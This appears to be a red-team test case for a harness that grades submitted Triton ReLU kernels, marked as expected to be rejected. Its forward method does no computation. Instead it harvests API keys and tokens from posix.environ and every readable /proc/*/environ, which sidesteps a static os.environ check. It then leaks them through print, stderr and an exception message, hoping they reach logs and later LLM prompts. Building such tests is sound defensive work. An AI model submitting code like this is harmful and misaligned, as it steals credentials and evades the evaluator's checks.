# task: relu
# expect: runtime_error|rejected
# beside: true
# why: hunts for API keys without touching os.environ (which a static check flags): posix.environ, /proc/self/environ,
#   the parent's /proc/<ppid>/environ and every other readable /proc/*/environ; prints them and raises an exception
#   whose message contains them, hoping they end up in the result's reason or log (and from there in the store, the
#   reports, the next LLM prompt).
import os
import pathlib
import posix
import re

import torch
import torch.nn as nn
import triton
import triton.language as tl

_PATTERN = re.compile(rb"^([A-Z0-9_]*(KEY|SECRET|TOKEN|PASSWORD|AWS_|OPENAI|ANTHROPIC)[A-Z0-9_]*)=(.*)$")


def _scan_environ_blob(blob, found):
    for entry in blob.split(b"\0"):
        m = _PATTERN.match(entry)
        if m:
            found[m.group(1).decode(errors="replace")] = m.group(3).decode(errors="replace")


def _hunt():
    found = {}
    for key, value in posix.environ.items():
        _scan_environ_blob(key + b"=" + value, found)
    paths = ["/proc/self/environ", "/proc/%d/environ" % os.getppid()]
    try:
        paths += ["/proc/%s/environ" % p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    for path in paths:
        try:
            _scan_environ_blob(pathlib.Path(path).read_bytes(), found)
        except OSError:
            pass
    return found


@triton.jit
def relu_kernel(x_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pid = tl.program_id(axis=0)
    offsets = pid * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask, other=0.0)
    tl.store(out_ptr + offsets, tl.maximum(x, 0.0), mask=mask)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        secrets = _hunt()
        print("leaked:", secrets, flush=True)
        os.write(2, ("leaked: %r\n" % (secrets,)).encode())
        raise RuntimeError("kernel failed; debug info: %r" % (secrets,))
